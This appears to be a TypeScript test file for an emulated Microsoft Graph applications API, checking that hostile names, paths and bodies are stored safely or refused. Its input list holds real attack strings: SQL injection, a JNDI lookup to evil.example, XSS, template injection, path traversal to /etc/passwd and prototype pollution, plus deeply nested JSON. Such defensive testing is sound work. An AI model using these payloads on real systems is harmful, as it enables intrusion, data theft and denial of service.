import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import { wholeDirectory } from '../../../../../test/fixtures/directory/whole-directory.ts'
import { graphOperations } from '../../../src/management/graph/graph-operations.ts'
import { OperationPaths, operationPath } from '../../../src/management/operations/operation-path.ts'
import { withApi } from '../graph/applications/sample-api.ts'
import { contoso, fabrikam, sampleGraph } from '../sample-graph.ts'

/** Hostile and unusual texts in the place of a name: BI10. */
const names = [
  "Robert'); DROP TABLE application;--",
  "' OR '1'='1",
  '"; SELECT pg_sleep(10); --',
  '\u0024{jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '../../../../etc/passwd',
  '__proto__',
  'constructor',
  'hasOwnProperty',
  'undefined',
  'null',
  'NaN',
  '1e400',
  '0x0',
  '-0',
  'Ω≈ç√∫˜µ≤≥÷',
  '田中さんにあげて下さい',
  'Å and Å, NFC and NFD',
  '👩‍👩‍👧‍👧🏳️‍🌈',
  'الكل في المجمو عة',
  '‮right to left',
  'ﷺ',
  '​zero​width',
  '\u{10ffff}',
  'T̫̺̳o̬̜ ì̬͎̲̟n̖͖̥͓v̖̻͍o̫̪k̗e',
  "%27%20or%20'1'='1",
  '$filter=1',
  "x'/any(y:y eq 'z",
  'a'.repeat(256),
] as const

describe('an unusual name', () => {
  it('is stored and found byte for byte', async () => {
    const { admin, store } = await withApi()
    for (const displayName of names) {
      const made = await admin.post('/applications', { displayName })
      assert.equal(made.status, 201, displayName)
      assert.equal(
        (await wholeDirectory(store)).application(made.body.id)?.displayName,
        displayName,
      )
      const filter = `displayName eq '${displayName.replaceAll("'", "''")}'`
      const found = await admin.get(`/applications?$filter=${encodeURIComponent(filter)}`)
      assert.deepEqual(
        found.body.value.map((one) => one.displayName),
        [displayName],
      )
    }
  })

  const slots: Readonly<Record<string, (text: string) => readonly [string, string, object?]>> = {
    'an object id': (text) => ['get', `/applications/${encodeURIComponent(text)}`],
    'an application id': (text) => ['get', `/applications(appId='${encodeURIComponent(text)}')`],
    'an assignment id': (text) => [
      'delete',
      `/servicePrincipals(appId='00000003-0000-0000-c000-000000000000')/appRoleAssignedTo/${encodeURIComponent(text)}`,
    ],
    'a filter': (text) => ['get', `/applications?$filter=${encodeURIComponent(text)}`],
    'a literal': (text) => ['get', `/applications?$filter=appId eq '${encodeURIComponent(text)}'`],
    'a selection': (text) => ['get', `/applications?$select=${encodeURIComponent(text)}`],
    'a page token': (text) => ['get', `/applications?$skiptoken=${encodeURIComponent(text)}`],
    'a page size': (text) => ['get', `/applications?$top=${encodeURIComponent(text)}`],
    'an option': (text) => ['get', `/applications?${encodeURIComponent(text)}=1`],
    'a property': (text) => ['post', '/applications', JSON.parse(`{${JSON.stringify(text)}:1}`)],
    'a placeholder application': (text) => ['post', '/servicePrincipals', { appId: text }],
    'a role id': (text) => [
      'post',
      '/applications',
      { displayName: 'x', appRoles: [{ id: text }] },
    ],
    'a URI': (text) => ['post', '/applications', { displayName: 'x', identifierUris: [text] }],
  }
  for (const [slot, requestOf] of Object.entries(slots))
    it(`causes no server error as ${slot}, and finds no other object`, async () => {
      const { admin } = await withApi()
      for (const text of [...names, '\0', '%', '%00', '%C0%AF', '\ud800'.toWellFormed()]) {
        const [method, path, body] = requestOf(text)
        const { status, body: answer } = await admin[method as 'get'](path, body)
        assert.ok(status < 500, `${status} for ${text}`)
        if (status === 200) assert.deepEqual(answer.value, [], text)
      }
    })
})

describe('an unusual body', () => {
  /** CVE-2025-53864 of Nimbus: unlimited nesting. */
  for (const [name, body] of [
    ['arrays', '['.repeat(100_000) + ']'.repeat(100_000)],
    ['objects', `${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)}`],
    ['arrays in a known property', `{"web":${'['.repeat(100_000)}${']'.repeat(100_000)}}`],
    ['objects in a known property', `{"web":${'{"web":'.repeat(100_000)}1${'}'.repeat(100_000)}}`],
  ])
    it(`is refused with 100,000 nested ${name}`, async () => {
      const { admin, path } = await withApi()
      assert.equal((await admin.patch(path, body)).status, 400)
    })

  it('does not change an object prototype', async () => {
    const { admin, path } = await withApi()
    const { status } = await admin.patch(path, '{"__proto__":{"isFallbackPublicClient":true}}')
    assert.equal(status, 400)
    assert.equal(({} as Record<string, unknown>).isFallbackPublicClient, undefined)
  })
})

describe('the path of an operation', () => {
  const rows = [
    ["/applications(appId='a')/addPassword", '/applications/appId%3Da/addPassword'],
    ['/applications(appId=%27a%27)', '/applications/appId%3Da'],
    ['/applications%28appId=%27a%27%29', '/applications/appId%3Da'],
    ["/applications('a')", '/applications/a'],
    ["/applications(appId='a/b')", "/applications(appId='a/b')"],
    ["/applications(tag='a')", "/applications(tag='a')"],
    ["/applications(appId='%2F..%2F')", '/applications/appId%3D%2F..%2F'],
    ['/applications/x', '/applications/x'],
    ['/applications/delta()', '/applications/delta'],
    ['/applications/microsoft.graph.delta%28%29', '/applications/delta'],
    ['/applications/graph.delta()', '/applications/delta'],
    ['/applications/x/microsoft.graph.addPassword', '/applications/x/addPassword'],
    ['/applications/x/Graph.RemovePassword', '/applications/x/RemovePassword'],
    ...['graph.addPassword', 'microsoft.graph.restore'].map((name) => {
      const path = `/applications/x/FederatedIdentityCredentials/${name}`
      return [path, path] as const
    }),
    ['/applications/x/microsoft.graph.owners', '/applications/x/microsoft.graph.owners'],
    ['/applications/other.delta()', '/applications/other.delta()'],
    ['/applications/delta(x)', '/applications/delta(x)'],
  ] as const
  for (const [path, expected] of rows)
    it(`is normalized from ${path} to ${expected}`, () =>
      assert.equal(operationPath(path), expected))

  it('may have its fixed segments in any case, but not its keys', async () => {
    const { admin, api } = await withApi()
    for (const path of [
      `/Applications/${api.id}`,
      `/APPLICATIONS(APPID='${api.appId}')`,
      `/applications/${api.id}/FederatedIdentityCredentials`,
      '/serviceprincipals',
    ]) {
      assert.equal((await admin.get(path)).status, 200, path)
    }
    const credential = `/applications/${api.id}/federatedIdentityCredentials/Applications`
    assert.match((await admin.get(credential)).body.error.message, /'Applications'/)
  })

  it('has at most one segment more than the longest path in the table (AS38)', () => {
    const paths = new OperationPaths(graphOperations)
    const longest = Math.max(...graphOperations.map(({ path }) => path.split('/').length))
    const path = paths.pathOf(new Request(`https://login.example${'/applications'.repeat(8000)}`))
    assert.equal(path.split('/').length, longest + 1)
    assert.deepEqual(paths.methodsAt(path), [])
  })

  const casts: readonly (readonly ['get' | 'post' | 'delete', path: string, segment: string])[] = [
    ['get', '/servicePrincipals/microsoft.graph.agentUser', 'microsoft.graph.agentUser'],
    ['post', '/applications/graph.agentIdentity', 'graph.agentIdentity'],
    ['delete', '/applications/Microsoft.Graph.Other', 'Microsoft.Graph.Other'],
    ['post', '/applications/microsoft.graph.other/', 'microsoft.graph.other'],
    ['get', `/applications/${contoso.id}/microsoft.graph.other/owners`, 'microsoft.graph.other'],
    ['get', `/applications/microsoft.graph.other/${contoso.id}`, 'microsoft.graph.other'],
    ['get', '/directory/deletedItems/microsoft.graph.user', 'microsoft.graph.user'],
  ]
  for (const [method, path, segment] of casts)
    it(`does not allow a cast to another type: ${method} ${path}`, async () => {
      const { admin } = await withApi()
      const { status, body } = await admin[method](path, method === 'post' ? {} : undefined)
      assert.equal(status, 400)
      assert.equal(body.error.message, `Resource not found for the segment '${segment}'.`)
    })

  it("may begin with the caller's tenant, but not with another tenant", async () => {
    const { admin, api } = await withApi()
    for (const tenant of ['myorganization', contoso.id, contoso.id.toUpperCase()]) {
      const { body, status } = await admin.get(`/${tenant}/applications/${api.id}`)
      assert.equal(status, 200, tenant)
      assert.equal(body.id, api.id)
    }
    const made = await admin.post(`/${contoso.id}/applications`, { displayName: 'Other' })
    assert.equal(made.status, 201)
    for (const path of ['/applications', `/applications/${api.id}/owners`]) {
      const { body, status } = await admin.get(`/${fabrikam.id}${path}`)
      assert.equal(status, 404)
      assert.match(body.error.message, new RegExp(fabrikam.id))
    }
    assert.equal((await admin.get(`/${contoso.id}/${contoso.id}/applications`)).status, 400)
    assert.equal((await admin.get(`/${contoso.id}`)).status, 400)
  })

  it('may end with one slash (entra E271)', async () => {
    const { admin, path } = await withApi()
    for (const list of ['/applications/?$top=1', `${path}/`, `/myorganization${path}/`])
      assert.equal((await admin.get(list)).status, 200, list)
    const credential = {
      name: 'first',
      issuer: 'https://issuer.example',
      subject: 'job',
      audiences: ['api://AzureADTokenExchange'],
    }
    const made = await admin.post(`${path}/federatedIdentityCredentials/`, credential)
    assert.equal(made.status, 201)
    assert.doesNotMatch(made.headers.get('location') ?? '', /[^:]\/\//)
  })

  it('is not decoded twice, nor corrected in any other way', async () => {
    const { admin, api } = await withApi()
    for (const path of [
      `//applications/${api.id}`,
      `/applications//${api.id}`,
      `/applications/${api.id}//`,
      `/applications/%2561`,
      `/applications%2F${api.id}`,
      `/applications;/${api.id}`,
      `/applications/${api.id}/APPOWNERS`,
    ]) {
      const { status } = await admin.get(path)
      assert.ok(status === 400 || status === 404, `${status} for ${path}`)
    }
  })
})

describe('the headers of a response (entra E277)', () => {
  it('match Microsoft Graph, and forbid caching of a response that may contain a secret', async () => {
    const { admin, path } = await withApi()
    const shown = (await admin.get(path)).headers
    assert.equal(shown.get('cache-control'), 'no-cache')
    assert.match(shown.get('content-type') ?? '', /^application\/json;odata\.metadata=minimal;/)
    assert.equal(shown.get('x-ms-resource-unit'), '1')
    assert.equal(shown.get('strict-transport-security'), 'max-age=31536000')
    const diagnostic = JSON.parse(shown.get('x-ms-ags-diagnostic') ?? '')
    assert.deepEqual(diagnostic, { ServerInfo: { DataCenter: 'Local' } })
    const secret = await admin.post(`${path}/addPassword`, {})
    assert.equal(secret.headers.get('cache-control'), 'no-store')
    const refused = await admin.get(`${path}/nothing`)
    assert.equal(refused.headers.get('cache-control'), 'no-store')
  })

  for (const baseUrl of ['http://login.example', 'https://localhost:8443'])
    it(`exclude strict transport security at ${baseUrl}`, async () => {
      const { clientWith } = await sampleGraph({ baseUrl })
      const { headers } = await (await clientWith([])).get('/$metadata')
      assert.equal(headers.get('strict-transport-security'), null)
      assert.equal(headers.get('x-ms-resource-unit'), '1')
    })
})
